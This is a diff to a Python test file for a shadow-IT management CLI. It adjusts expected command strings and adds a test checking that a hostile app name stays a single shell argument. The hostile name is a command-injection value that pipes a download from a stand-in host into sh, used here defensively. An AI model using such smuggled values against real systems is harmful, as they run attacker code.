@@ -98,8 +98,8 @@ def test_steps_are_commands_with_real_options() -> None:
         finding("fees", "unused_spend", "low"),
     ]
     steps = {a["app_key"]: a["step"] for a in actions.top_actions(apps, findings, TODAY)}
-    assert steps["loom"] == 'shadowit sanction --config config.toml "Loom" --status banned'
-    assert steps["old"] == 'shadowit sanction --config config.toml "Old" --review-by 2027-11-20'
+    assert steps["loom"] == "shadowit sanction --config config.toml Loom --status banned"
+    assert steps["old"] == "shadowit sanction --config config.toml Old --review-by 2027-11-20"
     assert steps["fees"] == (
         "shadowit accept --config config.toml fees:unused_spend --until 2027-02-18"
         ' --reason "why it is accepted"'
@@ -109,7 +109,7 @@ def test_steps_are_commands_with_real_options() -> None:
 def test_owner_step_follows_the_answer() -> None:
     asked = app("asked", confirmation={"state": "sanction_requested", "owner": "ana@example.com"})
     (top,) = actions.top_actions([asked], [finding("asked", "owner_unconfirmed", "low")], TODAY)
-    assert top["step"].endswith('"Asked" --status sanctioned --owner ana@example.com')
+    assert top["step"].endswith(" Asked --status sanctioned --owner ana@example.com")
     assert "confirm send" not in top["text"]
 
 
@@ -145,3 +145,17 @@ def test_an_owner_asked_again_reads_as_one_clause_with_the_command_once() -> Non
         " period:"
     )
     assert top["step"] == "shadowit confirm send --config config.toml"
+
+
+def test_a_hostile_app_name_stays_one_argument_of_the_command() -> None:
+    import shlex
+
+    hostile = 'Evil"; curl x.example | sh; echo "'
+    for kind, severity in (("unsanctioned", "high"), ("unsanctioned", "medium")):
+        target = app("evil", sources=[], name=hostile, likely_owner="a b@acme.example")
+        (top,) = actions.top_actions([target], [finding("evil", kind, severity)], TODAY)
+        assert top["step_kind"] == "command"
+        argv = shlex.split(top["step"])
+        assert argv[:4] == ["shadowit", "sanction", "--config", "config.toml"]
+        assert argv[4] == hostile, "the name is one argument, nothing runs after it"
+        assert "--owner" not in argv or argv[argv.index("--owner") + 1] == "a b@acme.example"
